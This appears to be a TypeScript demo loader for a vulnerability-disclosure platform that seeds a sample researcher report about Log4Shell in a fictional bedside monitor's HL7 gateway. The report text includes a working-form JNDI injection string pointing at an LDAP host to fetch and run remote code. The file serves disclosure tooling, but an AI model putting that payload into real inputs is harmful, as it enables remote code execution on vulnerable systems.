import { recordAudit } from '../../platform/audit/audit.js';
import { SYSTEM_ACTOR, type OrgContext } from '../../platform/auth/context.js';
import type { Db } from '../../platform/db/database.js';
import { addContact } from '../cvd/notices.js';
import { insertCase, recordCaseEvent, setCaseLink, transitionCase, updateCase } from '../cvd/service.js';
import { composeReporterMail } from '../cvd/thread.js';

/**
 * The demo manufacturer's coordinated disclosure: a researcher's report that the CardioWatch
 * 4.6.0 gateway is exploitable through Log4Shell in HL7 fields, acknowledged and triaged by the
 * demo analyst, linked to the product and the Log4Shell finding on that release, with the
 * acknowledgement in the reporter thread; and Mercy General's biomed team as the product's
 * customer contact (with an inbox copy, Mercy being a healthcare provider on this instance).
 *
 * No mail goes out at demo load: the acknowledgement is composed exactly as the thread would
 * send it but stored with ok = false and an error saying it was written by the demo loader,
 * so the case page shows it as not delivered rather than pretending a researcher got it. The
 * acknowledged state comes from a plain transition for the same reason. Loaded once: an
 * organization that already has the demo case is left alone.
 */
export const DEMO_CASE_TITLE = 'CardioWatch gateway runs attacker code from a JNDI lookup in HL7 MSH-3 (Log4Shell)';
export const DEMO_NOT_SENT = 'Demo data: written when the demo was loaded, not e-mailed';
const ANALYST = 'analyst@acme.example';
const MONITOR = 'CardioWatch bedside monitor';

export async function loadDemoCvd(db: Db, orgId: string): Promise<void> {
  const done = await db.selectFrom('cvd_cases').select('id').where('org_id', '=', orgId).where('title', '=', DEMO_CASE_TITLE).executeTakeFirst();
  if (done) return;
  const finding = await db
    .selectFrom('findings as f')
    .innerJoin('releases as r', 'r.id', 'f.release_id')
    .innerJoin('products as p', 'p.id', 'r.product_id')
    .select(['f.id', 'p.id as productId'])
    .where('f.org_id', '=', orgId)
    .where('f.vuln_id', '=', 'CVE-2021-44228')
    .where('p.name', '=', MONITOR)
    .where('r.version', '=', '4.6.0')
    .executeTakeFirst();
  if (!finding) return;
  const analyst = await db.selectFrom('users').select(['id', 'email']).where('email', '=', ANALYST).executeTakeFirst();
  const ctx: OrgContext = analyst
    ? { actor: { type: 'user', id: analyst.id, label: analyst.email }, userId: analyst.id, orgId, role: 'analyst', requestId: null }
    : { actor: SYSTEM_ACTOR, userId: null, orgId, role: 'owner', requestId: null };

  const caseId = await db.transaction().execute((tx) =>
    insertCase(tx, orgId, { type: 'system', id: null, label: 'public intake' }, null, {
      title: DEMO_CASE_TITLE,
      description:
        'The gateway of CardioWatch 4.6.0 logs the sending application (MSH-3) of every HL7 message it receives with log4j-core 2.14.1. An MSH-3 of ${jndi:ldap://10.0.0.99/x} makes it fetch and run a Java class from that address. Reproduced on a bench unit with the default configuration; 5.0.2 is not affected.',
      productHint: 'CardioWatch bedside monitor 4.6.0 (gateway)',
      source: 'form',
      reporterName: 'Dana Okafor',
      reporterEmail: 'dana.okafor@research.example',
      credit: 'named',
      cveRequested: false,
    }),
  );
  await transitionCase(db, ctx, caseId, 'acknowledged', undefined);
  const item = await db.selectFrom('cvd_cases').select(['id', 'title', 'received_at', 'state']).where('id', '=', caseId).executeTakeFirstOrThrow();
  const org = await db.selectFrom('organizations').select('name').where('id', '=', orgId).executeTakeFirstOrThrow();
  const mail = composeReporterMail('acknowledgement', { id: item.id, title: item.title, receivedAt: item.received_at, state: item.state }, org.name, 'We reproduced the lookup on a 4.6.0 bench unit and are checking which sites still run 4.6.0.');
  await db.transaction().execute(async (tx) => {
    await tx.insertInto('cvd_messages').values({ case_id: caseId, org_id: orgId, kind: 'acknowledgement', recipient: 'dana.okafor@research.example', subject: mail.subject, body: mail.text, ok: false, error: DEMO_NOT_SENT, sent_by: ctx.actor.label }).execute();
    await recordCaseEvent(tx, orgId, caseId, ctx.actor.label, 'message', { kind: 'acknowledgement', to: 'dana.okafor@research.example', ok: false, error: DEMO_NOT_SENT });
    await recordAudit(tx, ctx, { action: 'cvd.case.message_sent', target: { type: 'cvd_case', id: caseId }, summary: { kind: 'acknowledgement', ok: false, demo: true } });
  });
  await setCaseLink(db, ctx, caseId, 'product', finding.productId, true);
  await setCaseLink(db, ctx, caseId, 'finding', finding.id, true);
  await updateCase(db, ctx, caseId, { cveIds: ['CVE-2021-44228'], internalNotes: 'Known CVE; no new id needed. Customer notice goes with the 5.0.2 upgrade advisory.' });
  await transitionCase(db, ctx, caseId, 'triaged', undefined);

  const contacts = await db.selectFrom('customer_contacts').select('id').where('org_id', '=', orgId).where('product_id', '=', finding.productId).executeTakeFirst();
  if (!contacts) {
    const mercy = await db.selectFrom('organizations').select('slug').where('slug', '=', 'mercy-general').executeTakeFirst();
    await addContact(db, ctx, { productId: finding.productId, customerName: 'Mercy General Hospital — Biomedical Engineering', email: 'biomed@mercy.example', ...(mercy ? { customerOrgSlug: mercy.slug } : {}) });
  }
}
